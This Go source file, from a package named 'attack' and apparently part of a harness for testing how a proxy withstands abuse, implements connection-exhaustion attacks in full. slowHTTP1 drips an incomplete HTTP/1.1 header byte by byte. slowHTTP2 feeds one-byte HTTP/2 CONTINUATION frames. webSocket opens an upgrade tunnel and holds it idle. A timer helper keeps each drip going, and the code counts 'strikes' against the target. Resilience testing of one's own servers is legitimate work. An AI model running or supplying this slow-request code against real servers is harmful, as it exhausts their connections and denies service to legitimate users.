package attack

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// slowHTTP1 sends a head byte by byte.
func slowHTTP1(ctx context.Context, h *hand) {
	conn := h.dial(ctx, h.target.Plain)
	if conn == nil {
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	dripping := dripper(ctx, func() error { _, err := conn.Write([]byte("a")); return err })
	defer dripping()
	if _, err := io.WriteString(conn, "GET /1 HTTP/1.1\r\nHost: a\r\nX: "); err != nil {
		return
	}
	code := "closed"
	answer, err := http.ReadResponse(bufio.NewReaderSize(conn, 1<<10), nil)
	if err == nil {
		code = fmt.Sprint(answer.StatusCode)
		answer.Body.Close()
	}
	h.tally.Strikes++
	h.ended(ctx, code)
}

// slowHTTP2 sends one by frames of one byte.
func slowHTTP2(ctx context.Context, h *hand) {
	conn := h.dial(ctx, h.target.Plain)
	if conn == nil {
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	io.WriteString(conn, http2.ClientPreface)
	w := http2.NewFramer(conn, nil)
	w.WriteSettings()
	w.WriteSettingsAck()
	w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x82}})
	dripping := dripper(ctx, func() error { return w.WriteContinuation(1, false, []byte{0x82}) })
	defer dripping()
	r := &framer{Framer: http2.NewFramer(nil, conn), conn: conn, done: make(chan struct{})}
	r.read()
	h.tally.Strikes++
	h.ended(ctx, r.code)
}

// dripper sends something now and then, until it fails or the function that it returns
// is called, which waits for it.
func dripper(ctx context.Context, drop func() error) (stop func()) {
	ctx, cancel := context.WithCancel(ctx)
	var dripping sync.WaitGroup
	dripping.Go(func() {
		tick := time.NewTicker(dripAt)
		defer tick.Stop()
		for {
			select {
			case <-ctx.Done():
				return
			case <-tick.C:
				if drop() != nil {
					return
				}
			}
		}
	})
	return func() { cancel(); dripping.Wait() }
}

// upgrade is the request of RFC 6455 1.2.
const upgrade = "GET /socket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
	"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"

// webSocket opens a tunnel and says nothing in it.
func webSocket(ctx context.Context, h *hand) {
	conn := h.dial(ctx, h.target.Plain)
	if conn == nil {
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	io.WriteString(conn, upgrade)
	answer, err := http.ReadResponse(bufio.NewReaderSize(conn, 1<<10), nil)
	if err != nil || answer.StatusCode != http.StatusSwitchingProtocols {
		h.refused(ctx)
		return
	}
	h.tally.Strikes++
	toTheEnd(ctx, h, conn)
}

// toTheEnd reads until the proxy ends a connection.
func toTheEnd(ctx context.Context, h *hand, conn net.Conn) {
	_, err := io.Copy(io.Discard, conn)
	if err == nil {
		err = io.EOF
	}
	h.ended(ctx, endOf(err))
}
